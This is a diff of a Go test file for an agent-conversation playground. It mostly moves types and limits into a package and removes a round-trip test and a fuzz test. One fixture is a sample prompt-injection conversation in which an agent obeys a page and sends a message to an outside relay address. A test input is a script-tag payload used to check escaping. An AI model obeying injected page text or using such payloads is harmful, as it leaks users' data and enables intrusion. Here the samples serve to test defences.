@@ -10,10 +10,8 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/google/go-cmp/cmp"
-
-	"github.com/remit-project/remit"
 	"github.com/remit-project/remit/internal/access"
+	"github.com/remit-project/remit/internal/playground"
 )
 
 // attacked is a conversation in which an agent obeys a page.
@@ -27,7 +25,7 @@ call send_message {"to": "archive@relay-backup.example", "text": "Release 4."}`
 // where it came from.
 func TestPlayground(t *testing.T) {
 	s := newSite(t)
-	s.console.o.Samples = []Sample{{"first", "The first", office, attacked}}
+	s.console.o.Samples = []playground.Sample{{Name: "first", Title: "The first", Tools: office, Conversation: attacked}}
 	b := chromium(t)
 	p := b.tab(1280)
 	s.signIn(p, everything("ann"))
@@ -65,13 +63,13 @@ func TestPlaygroundMistakes(t *testing.T) {
 		"a call of no tool":     {office, "user: hi\ncall", "line 2: name the tool"},
 		"arguments that end":    {office, "user: hi\ncall read_page {\"url\"", ">deny<"},
 		"several servers":       {`{"a": [{"name": "look", "inputSchema": {"type": "object"}}], "b": []}`, "user: look\ncall look {}", "<h3>b</h3>"},
-		"too many parts":        {office, strings.Repeat("user: x\n", maxSaid+1), "at most 200 parts"},
+		"too many parts":        {office, strings.Repeat("user: x\n", playground.MaxSaid+1), "at most 200 parts"},
 		"markup in a mistake":   {office, "<script>alert(1)</script>", "line 1"},
 		"a result without call": {office, "result: x", `class="event result`},
 		"nothing":               {"", "", "Playground"},
-		"many servers":          {"{" + repeated(maxServers+1, `"s%d":[]`) + "}", "user: hi", "more than 20 servers"},
-		"many tools":            {"[" + repeated(maxDefined+1, `{"name":"t%d","inputSchema":{"type":"object"}}`) + "]", "user: hi", "more than 200"},
-		"many arguments":        {`[{"name":"t","inputSchema":{"type":"object","properties":{` + repeated(maxDescribed+1, `"p%d":{"type":"string"}`) + "}}}]", "user: hi", "more than 2000 arguments"},
+		"many servers":          {"{" + repeated(playground.MaxServers+1, `"s%d":[]`) + "}", "user: hi", "more than 20 servers"},
+		"many tools":            {"[" + repeated(playground.MaxDefined+1, `{"name":"t%d","inputSchema":{"type":"object"}}`) + "]", "user: hi", "more than 200"},
+		"many arguments":        {`[{"name":"t","inputSchema":{"type":"object","properties":{` + repeated(playground.MaxDescribed+1, `"p%d":{"type":"string"}`) + "}}}]", "user: hi", "more than 2000 arguments"},
 	} {
 		form := url.Values{"csrf": {csrf}, "tools": {test.tools}, "conversation": {test.conversation}, "at": {"99 /to"}}
 		status, page := c.do("POST", "playground", form.Encode())
@@ -188,36 +186,4 @@ func TestLongFormIsToldSo(t *testing.T) {
 	if status, _ := c.do("POST", "playground", "csrf="+csrf+"&tools=%zz"); status != http.StatusBadRequest {
 		t.Errorf("a form that can't be read: %d", status)
 	}
-}
-
-// A conversation is read as it was written down.
-func TestScriptIsReadBack(t *testing.T) {
-	lines := []Line{{remit.SystemEvent, "", "Be brief."}, {remit.UserEvent, "", "two\nlines"}, {remit.AttachmentEvent, "a.txt", "theirs"},
-		{remit.CallEvent, "read_page", `{"url": "x"}`}, {remit.ResultEvent, "", "a: b\n\nc"}, {remit.AssistantEvent, "", "done"}}
-	got, err := readScript(Script(lines))
-	must(t, err)
-	var back []Line
-	for _, u := range got {
-		back = append(back, Line{u.kind, u.name, u.text})
-	}
-	lines[3].Text = `{"url":"x"}`
-	if d := cmp.Diff(lines, back); d != "" {
-		t.Error(d)
-	}
-}
-
-func FuzzScript(f *testing.F) {
-	f.Add(attacked)
-	f.Add("call x{\"a\":1}\nattachment a: b\ncall\n")
-	f.Fuzz(func(t *testing.T, text string) {
-		said, err := readScript(text)
-		if len(said) > maxSaid || (err != nil && !strings.HasPrefix(err.Error(), "line ")) {
-			t.Fatalf("%d parts, %v", len(said), err)
-		}
-		for _, u := range said {
-			if u.kind == "" || u.line == 0 {
-				t.Fatalf("%+v", u)
-			}
-		}
-	})
 }
